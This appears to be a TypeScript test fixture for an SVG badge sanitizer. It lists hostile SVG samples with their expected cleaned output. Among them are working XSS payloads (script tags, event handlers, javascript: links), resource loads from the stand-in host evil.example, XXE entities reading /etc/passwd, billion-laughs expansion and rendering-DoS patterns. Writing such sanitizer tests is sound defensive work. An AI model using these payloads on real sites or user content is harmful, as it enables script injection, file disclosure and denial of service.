/** A badge that somebody made to do harm, and what becomes of it. */
export interface HostileBadge {
  name: string;
  svg: string;
  /** Not even cleaned: it is no well-formed badge, or too much of one. */
  refused?: true;
  /** What the cleaned badge must not have any more. */
  gone?: readonly string[];
  /** What the cleaned badge must still have, beside its drawing. */
  left?: readonly string[];
  /** What it does in a browser that opens it as it is, when that is sure. The browser's tests must notice. */
  does?: 'run' | 'request';
}

/** Nobody answers here. */
const EVIL = 'http://evil.example';
/** Leaves a trace in every place where the tests look for one. */
const RUN = "globalThis.ran=true;document.title='ran';console.log('ran');alert('ran')";
/** What is harmless in each of these badges, and stays. */
export const DRAWING = '<path fill="#FFD700" d="M4 4h16v16H4z"/>';

const NAMESPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const XHTML = 'xmlns="http://www.w3.org/1999/xhtml"';
const badge = (body: string, attributes = '') =>
  `<svg ${NAMESPACES} viewBox="0 0 24 24"${attributes && ` ${attributes}`}>${body}${DRAWING}</svg>`;
const base64 = (text: string) => Buffer.from(text).toString('base64');

const SCRIPTS: HostileBadge[] = [
  { name: 'a script', svg: badge(`<script>${RUN}</script>`), gone: ['script', 'ran'], does: 'run' },
  { name: 'a script in CDATA', svg: badge(`<script><![CDATA[${RUN}]]></script>`), gone: ['script', 'CDATA'], does: 'run' },
  { name: 'a script from elsewhere', svg: badge(`<script href="${EVIL}/x.js"/>`), gone: ['script', 'evil'], does: 'request' },
  { name: 'a script by xlink', svg: badge(`<script xlink:href="${EVIL}/x.js"/>`), gone: ['script', 'evil'], does: 'request' },
  { name: 'a script as data', svg: badge(`<script href="data:text/javascript,${RUN}"/>`), gone: ['script', 'data:'], does: 'run' },
  { name: 'a script of HTML', svg: badge(`<script ${XHTML}>${RUN}</script>`), gone: ['script', 'xhtml'], does: 'run' },
  {
    name: 'a script behind a prefix',
    svg: badge(`<x:script xmlns:x="http://www.w3.org/2000/svg">${RUN}</x:script>`),
    ...{ gone: ['script', 'xmlns:x='], does: 'run' },
  },
  { name: 'a script in capitals', svg: badge(`<SCRIPT>${RUN}</SCRIPT>`), gone: ['SCRIPT', 'ran'] },
  { name: 'a script in definitions', svg: badge(`<defs><g><script>${RUN}</script></g></defs>`), gone: ['script'], left: ['<g/>'] },
  {
    name: 'a script in a title',
    svg: badge(`<title>Gold<script>${RUN}</script></title>`),
    gone: ['script'],
    left: ['<title>Gold</title>'],
  },
  { name: 'a script as text in a title', svg: badge(`<title>&lt;script>${RUN}&lt;/script></title>`), gone: ['<script'] },
  { name: 'a title that ends early', svg: badge(`<title>&lt;/title>&lt;img src=x onerror="${RUN}">x</title>`), gone: ['<img'] },
  { name: 'HTML in a description', svg: badge(`<desc><img ${XHTML} src="x" onerror="${RUN}"/></desc>`), gone: ['img', 'onerror'] },
  { name: 'a style that ends early', svg: badge(`<style>&lt;/style>&lt;script>${RUN}&lt;/script></style>`), gone: ['style', 'ran'] },
  {
    name: 'a style in a title',
    svg: badge(`<title><style><a title="&lt;/style>&lt;img src=x onerror=alert(1)>"/></style></title>`),
    gone: ['onerror'],
  },
  { name: 'a comment that ends in HTML only', svg: badge(`<!--><img src=x onerror="${RUN}">-->`), gone: ['onerror', '<!'] },
  { name: 'CDATA that is HTML elsewhere', svg: badge(`<desc><![CDATA[<img src=x onerror="${RUN}">]]></desc>`), gone: ['onerror', 'CDATA'] },
  { name: 'a handler in a closing tag of text', svg: badge(`<text>&lt;/svg>&lt;img src=x onerror="${RUN}"></text>`), gone: ['<img'] },
];

const HANDLERS: HostileBadge[] = [
  { name: 'onload', svg: badge('', `onload="${RUN}"`), gone: ['onload'], does: 'run' },
  { name: 'onload on a shape', svg: badge(`<g onload="${RUN}"/>`), gone: ['onload'], left: ['<g/>'] },
  { name: 'onclick', svg: badge(`<path onclick="${RUN}" d="M0 0h9v9z"/>`), gone: ['onclick'], left: ['d="M0 0h9v9z"'], does: 'run' },
  { name: 'onmouseover', svg: badge(`<rect onmouseover="${RUN}" width="9" height="9"/>`), gone: ['onmouseover'], does: 'run' },
  { name: 'onfocusin', svg: badge(`<g tabindex="0" onfocusin="${RUN}"/>`), gone: ['onfocusin', 'tabindex'], does: 'run' },
  {
    name: 'onbegin',
    svg: badge(`<animate attributeName="x" dur="1s" onbegin="${RUN}"/>`),
    gone: ['onbegin'],
    left: ['dur="1s"'],
    does: 'run',
  },
  { name: 'onend', svg: badge(`<set attributeName="x" to="1" dur="0.01s" onend="${RUN}"/>`), gone: ['onend'], left: ['<set'], does: 'run' },
  {
    name: 'onrepeat',
    svg: badge(`<animate attributeName="x" dur="0.05s" repeatCount="9" onrepeat="${RUN}"/>`),
    gone: ['onrepeat'],
    does: 'run',
  },
  { name: 'an unknown handler', svg: badge(`<g onwhatever="${RUN}"/>`), gone: ['onwhatever'] },
  { name: 'a handler in capitals', svg: badge(`<g OnClick="${RUN}"/>`), gone: ['OnClick'] },
  { name: 'a handler behind a prefix', svg: badge(`<g xmlns:x="urn:x" x:onclick="${RUN}"/>`), gone: ['onclick', 'urn:x'] },
  { name: 'a handler set by an animation', svg: badge(`<set attributeName="onclick" to="${RUN}"/>`), gone: ['<set', 'onclick'] },
];

const LINKS: HostileBadge[] = [
  {
    name: 'a link that runs',
    svg: badge(`<a href="javascript:${RUN}"><circle r="5"/></a>`),
    gone: ['javascript'],
    left: ['<a><circle r="5"/></a>'],
    does: 'run',
  },
  { name: 'a link by xlink', svg: badge(`<a xlink:href="javascript:${RUN}"><circle r="5"/></a>`), gone: ['javascript'], does: 'run' },
  {
    name: 'a link with a line break in its scheme',
    svg: badge(`<a href="java&#10;script:${RUN}"><circle r="5"/></a>`),
    gone: ['href'],
    does: 'run',
  },
  { name: 'a link in mixed case', svg: badge(`<a href=" JaVaScRiPt:${RUN}"><circle r="5"/></a>`), gone: ['href'], does: 'run' },
  {
    name: 'a link behind another prefix',
    svg: badge(`<a xmlns:y="http://www.w3.org/1999/xlink" y:href="javascript:${RUN}"/>`),
    gone: ['javascript', 'xmlns:y'],
    does: 'run',
  },
  { name: 'a link away', svg: badge(`<a href="${EVIL}/"><circle r="5"/></a>`), gone: ['evil'], does: 'request' },
  { name: 'a link as data', svg: badge(`<a href="data:text/html;base64,${base64(`<script>${RUN}</script>`)}"/>`), gone: ['data:'] },
  {
    name: 'an animated link',
    svg: badge(`<a><animate attributeName="href" values="javascript:${RUN}"/><circle r="5"/></a>`),
    gone: ['animate', 'javascript'],
    left: ['<a><circle'],
  },
  {
    name: 'a link that is set',
    svg: badge(`<a><set attributeName="xlink:href" to="javascript:${RUN}"/><circle r="5"/></a>`),
    gone: ['<set', 'javascript'],
  },
  {
    name: 'an animation of something that follows',
    svg: badge(`<a id="l"/><animate href="#l" attributeName=" href" to="javascript:${RUN}"/>`),
    gone: ['animate', 'javascript'],
  },
  { name: 'a base', svg: badge('<use href="#a"/>', `xml:base="${EVIL}/x.svg"`), gone: ['evil', 'xml:base'], left: ['<use href="#a"/>'] },
  {
    name: 'a namespace that pretends',
    svg: badge(`<g xmlns:xlink="urn:x"><a xlink:href="javascript:${RUN}"/></g>`),
    gone: ['javascript', 'urn:x'],
  },
];

const FOREIGNERS: HostileBadge[] = [
  { name: 'foreignObject', svg: badge(`<foreignObject><body ${XHTML} onload="${RUN}"/></foreignObject>`), gone: ['foreignObject', 'body'] },
  {
    name: 'a frame',
    svg: badge(`<foreignObject width="9" height="9"><iframe ${XHTML} src="javascript:${RUN}"/></foreignObject>`),
    gone: ['iframe'],
  },
  {
    name: 'a frame from elsewhere',
    svg: badge(`<foreignObject width="9" height="9"><iframe ${XHTML} src="${EVIL}/"/></foreignObject>`),
    gone: ['evil'],
    does: 'request',
  },
  { name: 'a frame of HTML', svg: badge(`<iframe ${XHTML} srcdoc="&lt;script>${RUN}&lt;/script>"/>`), gone: ['iframe', 'srcdoc'] },
  { name: 'an object', svg: badge(`<object ${XHTML} data="${EVIL}/x.swf"/>`), gone: ['object', 'evil'] },
  { name: 'an embed', svg: badge(`<embed ${XHTML} src="${EVIL}/x.swf"/>`), gone: ['embed', 'evil'] },
  {
    name: 'a form',
    svg: badge(`<form ${XHTML} action="${EVIL}/"><input name="password" autofocus="" onfocus="${RUN}"/></form>`),
    gone: ['form', 'input'],
    does: 'run',
  },
  { name: 'a picture of HTML', svg: badge(`<img ${XHTML} src="${EVIL}/x.png" onerror="${RUN}"/>`), gone: ['img', 'evil'], does: 'request' },
  {
    name: 'a link to a style',
    svg: badge(`<link ${XHTML} rel="stylesheet" href="${EVIL}/x.css"/>`),
    gone: ['<link', 'evil'],
    does: 'request',
  },
  { name: 'a refresh', svg: badge(`<meta ${XHTML} http-equiv="refresh" content="0;url=${EVIL}/"/>`), gone: ['meta', 'evil'] },
  {
    name: 'HTML that breaks out of a drawing',
    svg: badge(`<g><p><img src="x" onerror="${RUN}"/></p></g>`),
    gone: ['<p>', 'onerror'],
    left: ['<g/>'],
  },
  {
    name: 'HTML that says it is a title',
    svg: badge(`<title><a ${XHTML} href="javascript:${RUN}">x</a></title>`),
    gone: ['javascript', 'xhtml'],
  },
  {
    name: 'mathematics',
    svg: badge(`<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><script ${XHTML}>${RUN}</script></mtext></math>`),
    gone: ['math', 'script'],
  },
  {
    name: 'a handler element',
    svg: badge(`<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler>`),
    gone: ['handler', 'ev:'],
  },
  {
    name: 'a listener',
    svg: badge('<listener xmlns="http://www.w3.org/2001/xml-events" event="click" handler="#x"/>'),
    gone: ['listener'],
  },
  { name: 'sound', svg: badge(`<audio ${XHTML} src="${EVIL}/x.mp3" autoplay=""/>`), gone: ['audio', 'evil'], does: 'request' },
  { name: 'a drawing program’s notes', svg: badge('<metadata><x:y xmlns:x="urn:x"/></metadata>'), gone: ['metadata', 'urn:x'] },
];

const REQUESTS: HostileBadge[] = [
  { name: 'an image', svg: badge(`<image href="${EVIL}/x.png" width="9" height="9"/>`), gone: ['image', 'evil'], does: 'request' },
  { name: 'an image by xlink', svg: badge(`<image xlink:href="${EVIL}/x.png" width="9" height="9"/>`), gone: ['evil'], does: 'request' },
  {
    name: 'an image without a scheme',
    svg: badge('<image href="//evil.example/x.png" width="9" height="9"/>'),
    gone: ['evil'],
    does: 'request',
  },
  {
    name: 'an image as data',
    svg: badge(`<image href="data:image/svg+xml;base64,${base64(badge(`<script>${RUN}</script>`))}"/>`),
    gone: ['image', 'data:'],
  },
  { name: 'a use of another file', svg: badge(`<use href="${EVIL}/x.svg#a"/>`), gone: ['evil'], left: ['<use/>'] },
  { name: 'a use of a file beside', svg: badge('<use href="other.svg#a"/>'), gone: ['other.svg'], does: 'request' },
  {
    name: 'a use of data',
    svg: badge(`<use href="data:image/svg+xml;base64,${base64(badge(`<g id="a"><script>${RUN}</script></g>`))}#a"/>`),
    gone: ['data:'],
  },
  {
    name: 'an image in a filter',
    svg: badge(`<filter id="f"><feImage href="${EVIL}/x.png"/></filter><rect filter="url(#f)" width="9" height="9"/>`),
    gone: ['feImage', 'evil'],
    left: ['url(#f)'],
    does: 'request',
  },
  {
    name: 'a fill from elsewhere',
    svg: badge(`<rect fill="url(${EVIL}/x.svg#a)" width="9" height="9"/>`),
    gone: ['fill="url', 'evil'],
    left: ['<rect width'],
  },
  {
    name: 'a mask from elsewhere',
    svg: badge(`<rect mask="url('${EVIL}/x.svg#a')" width="9" height="9"/>`),
    gone: ['evil'],
    does: 'request',
  },
  { name: 'a clip path from elsewhere', svg: badge(`<rect clip-path="url(${EVIL}/x.svg#a)" width="9" height="9"/>`), gone: ['evil'] },
  { name: 'a filter from elsewhere', svg: badge(`<rect filter="URL( ${EVIL}/x.svg#a )" width="9" height="9"/>`), gone: ['evil'] },
  { name: 'a gradient from elsewhere', svg: badge(`<linearGradient id="g" href="${EVIL}/x.svg#a"/>`), gone: ['evil'], left: ['id="g"'] },
  { name: 'a marker from elsewhere', svg: badge(`<path marker-end="url(${EVIL}/x.svg#a)" d="M0 0h9"/>`), gone: ['evil', 'marker'] },
  {
    name: 'a pointer from elsewhere',
    svg: badge(`<rect cursor="url(${EVIL}/x.png), auto" width="9" height="9"/>`),
    gone: ['evil', 'cursor'],
  },
  { name: 'an image set', svg: badge(`<rect mask="image-set('${EVIL}/x.png' 1x)" width="9" height="9"/>`), gone: ['evil', 'mask'] },
  { name: 'a hidden function', svg: badge(`<rect mask="u\\72l(${EVIL}/x.png)" width="9" height="9"/>`), gone: ['evil', 'mask'] },
  {
    name: 'a path of text from elsewhere',
    svg: badge(`<text><textPath href="${EVIL}/x.svg#a">x</textPath></text>`),
    gone: ['evil'],
    left: ['<textPath>x</textPath>'],
  },
  {
    name: 'a path of motion from elsewhere',
    svg: badge(`<animateMotion><mpath href="${EVIL}/x.svg#a"/></animateMotion>`),
    gone: ['evil'],
    left: ['<mpath/>'],
  },
  {
    name: 'a fill that becomes foreign',
    svg: badge(`<rect><animate attributeName="fill" to="url(${EVIL}/x.svg#a)"/></rect>`),
    gone: ['evil'],
    left: ['<animate'],
  },
  {
    name: 'a style sheet before it',
    svg: `<?xml-stylesheet href="${EVIL}/x.css"?>${badge('')}`,
    gone: ['stylesheet', 'evil'],
    does: 'request',
  },
  { name: 'a transformation before it', svg: `<?xml-stylesheet type="text/xsl" href="${EVIL}/x.xsl"?>${badge('')}`, gone: ['stylesheet'] },
  { name: 'an instruction inside', svg: badge('<?php echo 1 ?>'), gone: ['php'] },
  { name: 'a place to report to', svg: badge(`<a ping="${EVIL}/" href="#"/>`), gone: ['evil', 'ping'] },
];

const STYLES: HostileBadge[] = [
  { name: 'an import', svg: badge(`<style>@import url(${EVIL}/x.css);</style>`), gone: ['style', 'evil'], does: 'request' },
  { name: 'an import without url', svg: badge(`<style>@import "${EVIL}/x.css";</style>`), gone: ['style', 'evil'], does: 'request' },
  {
    name: 'a font',
    svg: badge(`<style>@font-face{font-family:x;src:url(${EVIL}/x.woff)}text{font-family:x}</style><text>x</text>`),
    gone: ['style', 'evil'],
    does: 'request',
  },
  { name: 'a style for the whole page', svg: badge('<style>*{display:none!important}</style>'), gone: ['style'] },
  { name: 'a style with a background', svg: badge('', `style="background:url(${EVIL}/x.png)"`), gone: ['style', 'evil'], does: 'request' },
  {
    name: 'a style with a mask',
    svg: badge(`<rect width="9" height="9" style="fill:red;mask:url(${EVIL}/x.svg#a)"/>`),
    gone: ['evil'],
    left: ['style="fill:red"'],
    does: 'request',
  },
  { name: 'a style with a comment in it', svg: badge(`<g style="fill:u/**/rl(${EVIL}/x)"/>`), gone: ['evil'] },
  { name: 'a style with escapes', svg: badge(`<g style="fill:\\75\\72\\6c(${EVIL}/x)"/>`), gone: ['evil'] },
  { name: 'a style with a string across declarations', svg: badge(`<g style="font-family:';fill:url(${EVIL}/x);'"/>`), gone: ['evil'] },
  {
    name: 'a badge over the page',
    svg: badge('', 'style="position:fixed;inset:0;z-index:9;opacity:0.5"'),
    gone: ['position', 'inset', 'z-index'],
    left: ['style="opacity:0.5"'],
  },
  { name: 'the page’s own classes', svg: badge('<g class="modal fixed inset-0"/>'), gone: ['class'] },
  {
    name: 'a name that hides a property of the page',
    svg: badge('<g id="cookie"/><g id="getElementById"/>'),
    gone: ['cookie', 'getElementById'],
  },
  { name: 'a property of its own', svg: badge(`<g style="--x:url(${EVIL}/x);fill:var(--x)"/>`), gone: ['--x', 'evil'] },
  {
    name: 'an animation of the page’s own drawings',
    svg: badge('<set href="#theirs" attributeName="display" to="none"/>'),
    gone: ['theirs'],
  },
  { name: 'behaviour', svg: badge(`<g style="behavior:url(${EVIL}/x.htc);-moz-binding:url(${EVIL}/x.xml#a)"/>`), gone: ['evil'] },
];

const UNUSUAL: HostileBadge[] = [
  {
    name: 'a document type from elsewhere',
    svg: `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "${EVIL}/Graphics/SVG/1.1/DTD/svg11.dtd">${badge('')}`,
    gone: ['DOCTYPE', 'evil'],
  },
  { name: 'a document type of the system', svg: `<!DOCTYPE svg SYSTEM 'file:///etc/passwd'>${badge('')}`, gone: ['DOCTYPE', 'passwd'] },
  {
    name: 'a handler behind the prefix of the drawing',
    svg: `<svg:svg xmlns:svg="http://www.w3.org/2000/svg" onload="${RUN}"><svg:g onload="${RUN}"/>${badge('')}</svg:svg>`,
    ...{ gone: ['onload', 'svg:'], left: ['<g/>'], does: 'run' },
  },
  { name: 'an element that is another', svg: badge('<g is="x-y"/>'), gone: ['is='], left: ['<g/>'] },
  { name: 'a drawing that is another', svg: badge('', 'is="x-y"'), gone: ['is='] },
];

const circle = (attributes: string, inside = '') => `<circle r="10" fill="none" stroke="red" ${attributes}>${inside}</circle>`;
const pattern = (attributes: string) =>
  `<pattern id="p" ${attributes}><circle r="1"/></pattern><rect width="24" height="24" fill="url(#p)"/>`;
const filtered = (parts: string, times = 1) => `<filter id="f">${parts}</filter>${'<g filter="url(#f)"/>'.repeat(times)}`;

/** What would keep a browser busy for seconds, or for good. */
const TOILSOME: HostileBadge[] = [
  ...[
    { name: 'a hundred lines of tiny dashes', svg: badge(circle('stroke-dasharray="0.001"').repeat(100)) },
    { name: 'a line of tiny dashes', svg: badge(circle('stroke-dasharray="0.0001 1e-9"')) },
    { name: 'tiny dashes in a style', svg: badge(circle('style="stroke-dasharray : .0001px"')) },
    { name: 'tiny dashes that a group hands on', svg: badge(`<g stroke-dasharray="0.0001">${circle('')}</g>`) },
    { name: 'tiny dashes that a use hands on', svg: badge(`<g id="c">${circle('')}</g><use href="#c" stroke-dasharray="0.0001"/>`) },
    { name: 'tiny dashes that are set', svg: badge(circle('', '<set attributeName="stroke-dasharray" to="0.0001"/>')) },
    { name: 'dashes that shrink', svg: badge(circle('', '<animate attributeName="stroke-dasharray" values="9;0" dur="9s"/>')) },
    { name: 'dashes that are a part of the letters', svg: badge(circle('font-size="0.0001" stroke-dasharray="1em"')) },
    { name: 'dashes that are calculated', svg: badge(circle('stroke-dasharray="calc(1px / 10000)"')) },
    { name: 'dashes of the screen', svg: badge(circle('stroke-dasharray="1" vector-effect="non-scaling-stroke" transform="scale(1e6)"')) },
    { name: 'dashes on a long way', svg: badge('<path stroke="red" stroke-dasharray="1" d="M0 0H1e6"/>') },
    { name: 'dashes on a long way there and back', svg: badge(`<path stroke-dasharray="1" d="M9999 0${'H0z'.repeat(99)}"/>`) },
    { name: 'dashes on a long way that is animated', svg: badge(circle('stroke-dasharray="1"', '<set attributeName="r" to="1e6"/>')) },
    { name: 'dashes on an endless way', svg: badge('<path stroke-dasharray="1" d="M0 0L1e999 0L0 0"/>') },
    { name: 'dashes on a huge arc', svg: badge('<path stroke-dasharray="1" d="M0 0A1 99999 0 0 1 99 0"/>') },
    { name: 'dashes on a way that is said to be long', svg: badge(circle('stroke-dasharray="1" pathLength="1e9"')) },
    { name: 'dashes on a huge letter', svg: badge('<text font-size="99999" stroke-dasharray="1">x</text>') },
    {
      name: 'dashes on letters that grow',
      svg: badge(`<text stroke-dasharray="1">${'<tspan font-size="9em">'.repeat(9)}x${'</tspan>'.repeat(9)}</text>`),
    },
    {
      name: 'dashes that are drawn again and again',
      svg: badge(`<g id="c">${circle('stroke-dasharray="0.1"')}</g>${'<use href="#c"/>'.repeat(999)}`),
    },
    { name: 'a long path again and again', svg: badge(`<path id="c" d="M0 0${'h1v1'.repeat(5000)}"/>${'<use href="#c"/>'.repeat(999)}`) },
    { name: 'a long text again and again', svg: badge(`<text id="c">${'x'.repeat(9999)}</text>${'<use href="#c"/>'.repeat(999)}`) },
    { name: 'tiny tiles', svg: badge(pattern('width="0.001" height="0.001" patternUnits="userSpaceOnUse"')) },
    { name: 'tiny tiles of a box', svg: badge(pattern('width="0.0001" height="0.01%"')) },
    {
      name: 'tiles that are made tiny',
      svg: badge(pattern('width="1" height="1" patternTransform="scale(.01) rotate(3) matrix(.1 0 0 .1 0 0)"')),
    },
    {
      name: 'tiles that become tiny',
      svg: badge(pattern('width="1" height="1"').replace('><', '><set attributeName="width" to="1e-9"/><')),
    },
    {
      name: 'tiny tiles by another name',
      svg: badge(`<pattern id="q" width="1e-4" height="1e-4"/>${pattern('href="#q" patternUnits="userSpaceOnUse"')}`),
    },
    {
      name: 'a pattern of much for each of many',
      svg: badge(
        `<pattern id="p" width="1" height="1">${'<g/>'.repeat(500)}</pattern><g fill="url(#p)">${'<circle r="1"/>'.repeat(500)}</g>`,
      ),
    },
    { name: 'endless noise', svg: badge(filtered('<feTurbulence numOctaves="1000"/>')) },
    { name: 'noise again and again', svg: badge(filtered('<feTurbulence/>', 500)) },
    { name: 'noise that grows', svg: badge(filtered('<feTurbulence><set attributeName="numOctaves" to="999"/></feTurbulence>')) },
    { name: 'a huge matrix', svg: badge(filtered('<feConvolveMatrix order="100 100" kernelMatrix="1"/>')) },
    { name: 'huge dots', svg: badge(filtered('<feMorphology operator="dilate" radius="1000"/>')) },
    { name: 'a filter of a filter of a filter', svg: badge(filtered('<feGaussianBlur stdDeviation="9"/>'.repeat(600))) },
    { name: 'filters of functions', svg: badge(`<g style="filter:${'blur(9px) '.repeat(500)}"/>`) },
    { name: 'layers on layers', svg: badge('<g opacity=".9"/>'.repeat(2500)) },
    { name: 'thousands of animations', svg: badge('<g><animate attributeName="x" to="9" dur="1s"/></g>'.repeat(1100)) },
    {
      name: 'animations that wait for each other and take no time',
      svg: badge(
        '<set id="a" attributeName="x" to="1" begin="0s;b.end" dur="0.0001ms"/><set id="b" attributeName="x" to="1" begin="a.end" dur="1e-9s" max="0.001s"/>',
      ),
    },
  ].map((one) => ({ ...one, refused: true as const })),
];

const doubling = (element: (target: string) => string) =>
  badge(Array.from({ length: 30 }, (_, level) => `<g id="n${level + 1}">${element(`#n${level}`).repeat(2)}</g>`).join(''));
const entities = Array.from({ length: 9 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`).join('');

const REFUSED: HostileBadge[] = [
  ...[
    { name: 'nothing', svg: '' },
    { name: 'blanks', svg: ' \n' },
    { name: 'plain text', svg: 'Gold' },
    { name: 'JSON', svg: '{"svg":"<svg/>"}' },
    { name: 'HTML', svg: `<html ${XHTML}><body><svg ${NAMESPACES}/></body></html>` },
    { name: 'a script alone', svg: `<script ${NAMESPACES}>${RUN}</script>` },
    { name: 'svg of another namespace', svg: `<svg ${XHTML}>${DRAWING}</svg>` },
    { name: 'svg behind a prefix of something else', svg: `<x:svg xmlns:x="urn:x">${DRAWING}</x:svg>` },
    { name: 'svg that denies its namespace', svg: `<svg xmlns="">${DRAWING}</svg>` },
    { name: 'SVG in capitals', svg: `<SVG ${NAMESPACES}/>` },
    { name: 'an open element', svg: `<svg ${NAMESPACES}><g>` },
    { name: 'elements that cross', svg: badge('<g><a></g></a>') },
    { name: 'two roots', svg: badge('').repeat(2) },
    { name: 'text after the end', svg: `${badge('')}<!-- --> ${RUN}` },
    { name: 'an attribute without quotes', svg: badge('<g fill=red/>') },
    { name: 'an attribute twice', svg: badge('<g fill="red" fill="blue"/>') },
    { name: 'an attribute twice by namespace', svg: badge('<g xmlns:a="urn:x" xmlns:b="urn:x" a:y="" b:y=""/>') },
    { name: 'a prefix of nothing', svg: badge('<x:g/>') },
    { name: 'a bare ampersand', svg: badge('<text>Gold & more</text>') },
    { name: 'a character that XML has not', svg: badge('<text>\u0001</text>') },
    { name: 'NUL', svg: badge('<text>\u0000</text>') },
    { name: 'a reference to a character that XML has not', svg: `<?xml version="1.1"?>${badge('<text>&#1;</text>')}` },
    { name: 'half a character', svg: badge('<text>\ud83d</text>') },
    { name: 'half a character that hides a tag', svg: badge('\ud83d</text>') },
    { name: 'a comment that does not end', svg: badge('<!-- ') },
    { name: 'an unknown entity', svg: badge('<text>&nbsp;</text>') },
    { name: 'a document type with an empty inside', svg: `<!DOCTYPE svg []>${badge('')}` },
    { name: 'a document type that hides its inside', svg: `<!DOCTYPE svg SYSTEM "x" [<!ENTITY x "y">]>${badge('')}` },
    { name: 'a document type twice', svg: `<!DOCTYPE svg><!DOCTYPE svg>${badge('')}` },
    { name: 'a document type inside', svg: badge('<!DOCTYPE svg>') },
    { name: 'a document type that is none', svg: `<!DOCTYPE svg PUBLIC>${badge('')}` },
    { name: 'an entity of a document type from elsewhere', svg: `<!DOCTYPE svg SYSTEM "${EVIL}/x.dtd">${badge('<text>&x;</text>')}` },
    { name: 'an entity', svg: `<!DOCTYPE svg [<!ENTITY x "<script>${RUN}</script>">]>${badge('&x;')}` },
    { name: 'an entity from elsewhere', svg: `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${badge('<text>&x;</text>')}` },
    { name: 'an entity of parameters', svg: `<!DOCTYPE svg [<!ENTITY % x SYSTEM "${EVIL}/x.dtd"> %x;]>${badge('')}` },
    { name: 'a billion laughs', svg: `<!DOCTYPE svg [<!ENTITY l0 "ha">${entities}]>${badge('<text>&l9;</text>')}` },
    { name: 'an attribute by default', svg: `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${RUN}">]>${badge('')}` },
    { name: '64 KiB and a byte', svg: badge('').padEnd(65_537) },
    { name: '64 KiB and more in fewer characters', svg: badge(`<title>${'é'.repeat(32_768)}</title>`) },
    { name: '64 KiB and more after it was written anew', svg: badge(`<g aria-label='${'"'.repeat(60_000)}'/>`) },
    { name: 'a billion uses', svg: doubling((target) => `<use href="${target}"/>`) },
    { name: 'a billion uses by xlink', svg: doubling((target) => `<use xlink:href="${target}"/>`) },
    { name: 'a billion masks', svg: doubling((target) => `<g mask="url(${target})"/>`) },
    { name: 'a billion fills in styles', svg: doubling((target) => `<g style="fill:url('${target}')"/>`) },
    { name: 'a use of itself', svg: badge('<g id="a"><use href="#a"/></g>') },
    { name: 'many uses of much', svg: badge(`<g id="a">${'<g/>'.repeat(1000)}</g>${'<use href="#a"/>'.repeat(1000)}`) },
    {
      name: 'much behind a name that is used twice',
      svg: badge(`<g id="a">${'<g/>'.repeat(1000)}</g><g id="a"/>${'<use href="#a"/>'.repeat(1000)}`),
    },
    { name: 'deep nests', svg: badge(`${'<g>'.repeat(9000)}${'</g>'.repeat(9000)}`) },
  ].map((one) => ({ ...one, refused: true as const })),
];

/** All of them; their names are different. */
export const HOSTILE: readonly HostileBadge[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...LINKS,
  ...FOREIGNERS,
  ...REQUESTS,
  ...STYLES,
  ...UNUSUAL,
  ...TOILSOME,
  ...REFUSED,
];
